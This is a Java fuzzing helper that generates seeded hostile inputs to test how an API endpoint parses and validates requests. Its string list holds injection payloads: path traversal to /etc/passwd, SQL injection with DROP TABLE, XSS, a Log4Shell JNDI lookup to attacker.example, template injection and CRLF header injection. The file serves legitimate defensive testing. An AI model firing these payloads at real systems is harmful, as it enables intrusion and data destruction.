package io.stagegate.reliability;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Seeded generators of hostile input for one endpoint of the OpenAPI document: every value is drawn from a {@link
 * Random} with a known seed, so a failing input is reproduced by rerunning with the seed the test prints. Bodies start
 * from a well-formed request built from the operation's schema and are then broken in one way per category, so that
 * each input exercises the parsing and validation of that endpoint rather than being refused for an unrelated reason.
 */
final class HostileInputs {

    /** What is wrong with an input; the report counts tries per category. */
    enum Category {
        WRONG_TYPE,
        UNKNOWN_ENUM_VALUE,
        UNKNOWN_FIELD,
        MALFORMED_JSON,
        HUGE_STRING,
        HUGE_BODY,
        DEEP_NESTING,
        INVALID_UTF8,
        CONTROL_CHARACTERS,
        HOSTILE_PATH_PARAMETER,
        HOSTILE_QUERY_PARAMETER,
        PAGING_OUT_OF_RANGE
    }

    static final List<String> HOSTILE_STRINGS = List.of(
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2f",
            "' OR '1'='1",
            "1; DROP TABLE sg_project; --",
            "\" OR \"\"=\"",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/x}",
            "#{7*7}",
            "{{7*7}}",
            "%s%s%s%n",
            "\u0000",
            "line\r\nX-Injected: yes",
            "\u202Eevil",
            "\uD800",
            "☃💥",
            "",
            " ",
            "null",
            "-1",
            "9".repeat(400),
            "A".repeat(3000));

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final ObjectMapper JSON = new ObjectMapper();

    private final Random random;

    HostileInputs(Random random) {
        this.random = random;
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    int between(int min, int max) {
        return min + random.nextInt(max - min + 1);
    }

    String hostileString() {
        if (random.nextInt(4) == 0) {
            return randomText(between(1, 40));
        }
        return pick(HOSTILE_STRINGS);
    }

    /** Printable and unprintable characters, surrogates included. */
    String randomText(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append(
                    switch (random.nextInt(5)) {
                        case 0 -> (char) random.nextInt(0x20);
                        case 1 -> (char) (0xD800 + random.nextInt(0x800));
                        case 2 -> (char) (0x7f + random.nextInt(0x21));
                        default -> (char) (0x21 + random.nextInt(0x5e));
                    });
        }
        return text.toString();
    }

    String controlText() {
        StringBuilder text = new StringBuilder("name");
        int controls = between(1, 5);
        for (int i = 0; i < controls; i++) {
            char c;
            do {
                c = (char) random.nextInt(0x20);
            } while (c == '\t' || c == '\n' || c == '\r');
            text.insert(random.nextInt(text.length() + 1), c);
        }
        return random.nextBoolean() ? text.toString() : text + "\u007f";
    }

    String pagingValue() {
        return pick(List.of(
                "-1",
                String.valueOf(Integer.MIN_VALUE),
                String.valueOf(Integer.MAX_VALUE + 1L),
                String.valueOf(Long.MAX_VALUE),
                "99999999999999999999999",
                "1e309",
                "NaN",
                "1.5",
                "abc"));
    }

    /** A well-formed value for {@code schema} (the first enum value, a short text, 1, true …). */
    JsonNode valid(JsonNode schema, JsonNode components, int depth) {
        schema = resolve(schema, components);
        if (schema.has("enum")) {
            return schema.get("enum").get(0);
        }
        String type = schema.path("type").asText("object");
        return switch (type) {
            case "string" ->
                NODES.textNode("format".equals(schema.path("format").asText()) ? "x" : "valid text");
            case "integer" -> NODES.numberNode(1);
            case "number" -> NODES.numberNode(0.5);
            case "boolean" -> NODES.booleanNode(true);
            case "array" -> {
                ArrayNode array = NODES.arrayNode();
                if (depth < 4) {
                    array.add(valid(schema.path("items"), components, depth + 1));
                }
                yield array;
            }
            default -> {
                ObjectNode object = NODES.objectNode();
                if (depth < 4) {
                    for (Iterator<Map.Entry<String, JsonNode>> it =
                                    schema.path("properties").fields();
                            it.hasNext(); ) {
                        Map.Entry<String, JsonNode> property = it.next();
                        object.set(property.getKey(), valid(property.getValue(), components, depth + 1));
                    }
                }
                yield object;
            }
        };
    }

    /** A value no deserializer may accept for {@code schema}: structure where a scalar belongs and vice versa. */
    JsonNode wrongType(JsonNode schema, JsonNode components) {
        schema = resolve(schema, components);
        String type = schema.path("type").asText(schema.has("properties") ? "object" : "");
        return switch (type) {
            case "string" ->
                random.nextBoolean()
                        ? NODES.objectNode().put("x", 1)
                        : NODES.arrayNode().add(1);
            case "integer", "number" ->
                pick(List.of(
                        NODES.textNode("not a number"),
                        NODES.objectNode(),
                        NODES.arrayNode(),
                        NODES.textNode("1e99999")));
            case "boolean" -> pick(List.of(NODES.textNode("maybe"), NODES.objectNode(), NODES.arrayNode()));
            case "array" -> pick(List.of(NODES.objectNode().put("x", 1), NODES.textNode("x"), NODES.numberNode(3)));
            case "object" -> pick(List.of(NODES.arrayNode().add(1), NODES.textNode("x"), NODES.numberNode(3)));
            default -> null;
        };
    }

    /** Properties of an object schema whose value may be replaced: name → schema. */
    static List<Map.Entry<String, JsonNode>> properties(JsonNode schema, JsonNode components) {
        List<Map.Entry<String, JsonNode>> properties = new ArrayList<>();
        resolve(schema, components).path("properties").fields().forEachRemaining(properties::add);
        return properties;
    }

    static JsonNode resolve(JsonNode schema, JsonNode components) {
        while (schema.has("$ref")) {
            String ref = schema.get("$ref").asText();
            schema = components.path("schemas").path(ref.substring(ref.lastIndexOf('/') + 1));
        }
        if (schema.has("allOf") && schema.get("allOf").size() == 1) {
            return resolve(schema.get("allOf").get(0), components);
        }
        return schema;
    }

    /** {@code [[[…]]]} or {@code {"a":{"a":…}}} nested {@code depth} levels. */
    String nested(int depth) {
        boolean arrays = random.nextBoolean();
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            text.append(arrays ? "[" : "{\"a\":");
        }
        text.append("1");
        for (int i = 0; i < depth; i++) {
            text.append(arrays ? "]" : "}");
        }
        return text.toString();
    }

    /** The UTF-8 of {@code json} with the first occurrence of {@code marker} replaced by invalid UTF-8 bytes. */
    byte[] withInvalidUtf8(String json, String marker) {
        byte[] bad = pick(List.of(
                new byte[] {(byte) 0xC3, 0x28},
                new byte[] {(byte) 0xFF},
                new byte[] {(byte) 0xC0, (byte) 0xAF},
                new byte[] {(byte) 0xE2, (byte) 0x82},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}));
        int at = json.indexOf(marker);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        if (at < 0) {
            out.writeBytes("{\"name\":\"".getBytes(StandardCharsets.UTF_8));
            out.writeBytes(bad);
            out.writeBytes("\"}".getBytes(StandardCharsets.UTF_8));
            return out.toByteArray();
        }
        out.writeBytes(json.substring(0, at).getBytes(StandardCharsets.UTF_8));
        out.writeBytes(bad);
        out.writeBytes(json.substring(at + marker.length()).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    String malformedJson(String json) {
        return switch (random.nextInt(7)) {
            case 0 -> json.substring(0, Math.max(1, random.nextInt(Math.max(1, json.length()))));
            case 1 -> "";
            case 2 -> "[" + json + "]";
            case 3 -> "42";
            case 4 -> json + json;
            case 5 -> "{'single': 'quotes'}";
            default -> json.replace("\"", "");
        };
    }

    static String write(JsonNode node) {
        try {
            return JSON.writeValueAsString(node);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
